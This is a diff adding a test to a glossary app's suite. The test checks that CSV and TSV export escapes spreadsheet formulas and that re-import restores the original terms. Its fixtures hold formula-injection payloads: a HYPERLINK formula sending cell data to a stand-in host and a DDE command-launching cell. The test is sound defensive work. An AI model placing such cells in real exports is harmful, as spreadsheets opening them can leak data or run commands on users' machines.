@@ -182,6 +182,44 @@ describe.each(DATABASES)('glossaries on %s', (kind) => {
     expect((await list(user))[0]?.entries[0]).toMatchObject({ target: 'fichero' });
   });
 
+  it('exports no cell a spreadsheet would run as a formula, and imports that export back to the same terms', async () => {
+    const user = await signUp(server.app);
+    const entries = [
+      { source: '=HYPERLINK("https://evil.example/?"&A1,"Open")', target: 'abrir', caseSensitive: false },
+      { source: "+cmd|' /C calc'!A0", target: null, caseSensitive: false },
+      { source: '-ing', target: '-ando', caseSensitive: false },
+      { source: '@SUM(A1:A2)', target: "'=SUMA", caseSensitive: false },
+    ];
+    const original = await create(user, { name: 'Formulas', entries });
+    for (const format of ['csv', 'tsv'] as const) {
+      const exported = await fn<{ content: string }>(user, 'exportGlossary', {
+        glossaryId: original.glossaryId,
+        format,
+      });
+      const lines = exported.body.result.content.trimEnd().split('\n');
+      if (format === 'csv')
+        expect(lines).toEqual([
+          `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","abrir"`,
+          `"'+cmd|' /C calc'!A0",""`,
+          `"'-ing","'-ando"`,
+          `"'@SUM(A1:A2)","''=SUMA"`,
+        ]);
+      else
+        expect(lines).toEqual([
+          `'=HYPERLINK("https://evil.example/?"&A1,"Open")\tabrir`,
+          `'+cmd|' /C calc'!A0\t`,
+          `'-ing\t'-ando`,
+          `'@SUM(A1:A2)\t''=SUMA`,
+        ]);
+      const imported = await fn<Glossary>(user, 'importGlossary', {
+        langFrom: 'en',
+        langTo: 'es',
+        content: exported.body.result.content,
+      });
+      expect(imported.body.result.entries).toEqual(entries);
+    }
+  });
+
   it('translates a DOCX with the chosen glossary, the pair default, or none', async () => {
     const user = await signUp(server.app);
     const plain = await translateDocx(user);
